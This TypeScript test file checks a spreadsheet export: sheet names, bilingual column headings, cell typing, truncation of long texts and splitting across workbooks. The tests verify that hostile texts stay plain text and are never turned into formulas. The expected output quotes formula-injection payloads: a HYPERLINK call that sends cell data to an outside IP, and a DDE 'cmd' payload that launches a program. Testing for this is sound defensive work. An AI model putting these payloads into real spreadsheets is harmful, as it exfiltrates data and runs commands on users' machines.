import { spawnSync } from 'node:child_process'
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import readXlsxFile from 'read-excel-file/node'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { readPackage } from '../../../src/ingest/docx-package.ts'
import { columnsOf } from '../../../src/outputs/dataset/columns.ts'
import { type DatasetSummary, pour } from '../../../src/outputs/dataset/pour.ts'
import { type Result, resultNames, resultsIn } from '../../../src/outputs/dataset/results.ts'
import { type TableName, tableNames } from '../../../src/outputs/dataset/tables.ts'
import { workbooks } from '../../../src/outputs/dataset/workbook.ts'
import { writeJson } from '../../../src/outputs/json.ts'
import { hostileExtraction, hostileTexts } from './hostile-extraction.ts'

const folder = mkdtempSync(join(tmpdir(), 'heshu-workbook-'))
afterAll(() => rmSync(folder, { recursive: true }))

type Sheets = Map<string, unknown[][]>

async function sheetsOf(path: string): Promise<Sheets> {
  const sheets = await readXlsxFile(path, { trim: false })
  return new Map(sheets.map(({ sheet, data }) => [sheet, data as unknown[][]]))
}

/** The rows of a sheet below its two headings, by column. */
function rowsOf(sheets: Sheets, table: TableName): Record<string, unknown>[] {
  const [, names = [], ...rows] = sheets.get(table) ?? []
  return rows.map((row) => Object.fromEntries(names.map((name, i) => [name, row[i]])))
}

const hostile: Result = { output: '00.json', text: writeJson(hostileExtraction()) }

async function samples(): Promise<Result[]> {
  const results: Result[] = []
  for await (const result of resultsIn('test/golden', await resultNames('test/golden'))) results.push(result)
  return results
}

describe('the workbook', () => {
  let summary: DatasetSummary
  let sheets: Sheets

  beforeAll(async () => {
    summary = await pour([hostile, ...(await samples())], [workbooks(folder)])
    sheets = await sheetsOf(join(folder, 'heshu.xlsx'))
  })

  test('has a sheet for every table but evidence, and the codebook', () => {
    expect([...sheets.keys()]).toEqual([...tableNames.filter((table) => table !== 'evidence'), 'codebook'])
  })

  test('holds every row, under the Chinese and the English names of its columns', () => {
    for (const table of tableNames.filter((name) => name !== 'evidence')) {
      const [titles, names, ...rows] = sheets.get(table) ?? []
      expect(names).toEqual(columnsOf(table).map(({ name }) => name))
      expect(titles?.every((title) => /\p{Script=Han}|左|上/u.test(String(title)))).toBe(true)
      expect(rows, table).toHaveLength(summary.rows[table])
    }
  })

  test('figures are numbers, texts are texts whatever they begin with', () => {
    const [first] = rowsOf(sheets, 'amounts')
    expect(first?.value).toBe(250_000)
    const subjects = rowsOf(sheets, 'amounts')
      .slice(0, hostileTexts.length)
      .map(({ subject }) => subject)
    const readable = (text: unknown): string =>
      String(text)
        .replaceAll(/[^\P{Cc}\t\n\r]|\p{Surrogate}|\uFFFD/gu, '')
        .replaceAll(/\r\n?/g, '\n')
        .slice(0, 32_000)
    expect(subjects.map(readable)).toEqual(hostileTexts.map(readable))
  })

  test('holds no formula, and texts stay texts when they are edited', async () => {
    const parts = await readPackage(readFileSync(join(folder, 'heshu.xlsx')))
    const sheetTexts = [...parts].filter(([name]) => name.startsWith('xl/worksheets/')).map(([, xml]) => String(xml))
    expect(sheetTexts.filter((xml) => xml.includes('<sheetData>'))).toHaveLength(sheets.size)
    expect(sheetTexts.filter((xml) => /<f[ >/]/.test(xml))).toEqual([])
    // 49 is the number of the format "@".
    expect(String(parts.get('xl/styles.xml'))).toMatch(/numFmtId="49"|formatCode="@"/)
  })

  test('a text longer than a cell is cut with a mark', () => {
    const long = rowsOf(sheets, 'amounts').find(({ subject }) => String(subject).startsWith('長長'))
    expect(String(long?.subject)).toHaveLength(32_767)
    expect(String(long?.subject).endsWith('長…')).toBe(true)
  })

  const office = spawnSync('soffice', ['--version']).status === 0
  test.skipIf(!office)('LibreOffice opens it and shows the same texts (needs soffice)', () => {
    const to = join(folder, 'office')
    const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`
    // Sheet 3, UTF-8, all texts quoted.
    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3'
    spawnSync('soffice', [profile, '--headless', '--convert-to', filter, '--outdir', to, join(folder, 'heshu.xlsx')])
    const [name = ''] = readdirSync(to)
    const shown = readFileSync(join(to, name), 'utf8')
    const wanted = ['=HYPERLINK(""http://198.51.100.7/?""&A1,""详情"")', "=cmd|' /C calc'!A0", ',250000,CNY,']
    expect(wanted.filter((text) => !shown.includes(text))).toEqual([])
    expect(/#(?:NAME|REF|VALUE)|Err:\d/.exec(shown)).toBeNull()
  })
})

test('too many rows for one workbook: several, each with whole documents', async () => {
  const to = mkdtempSync(join(folder, 'many-'))
  const { rows } = await pour(await samples(), [workbooks(to, 150)])
  const names = readdirSync(to).sort()
  expect(names.length).toBeGreaterThan(1)
  expect(names[0]).toBe('heshu-001.xlsx')
  const seen: string[] = []
  let amounts = 0
  for (const name of names) {
    const sheets = await sheetsOf(join(to, name))
    const documents = rowsOf(sheets, 'documents').map(({ sha256 }) => String(sha256))
    for (const { sha256 } of rowsOf(sheets, 'amounts')) expect(documents).toContain(sha256)
    seen.push(...documents)
    amounts += rowsOf(sheets, 'amounts').length
  }
  expect(seen).toHaveLength(rows.documents)
  expect(new Set(seen).size).toBe(rows.documents)
  expect(amounts).toBe(rows.amounts)
})
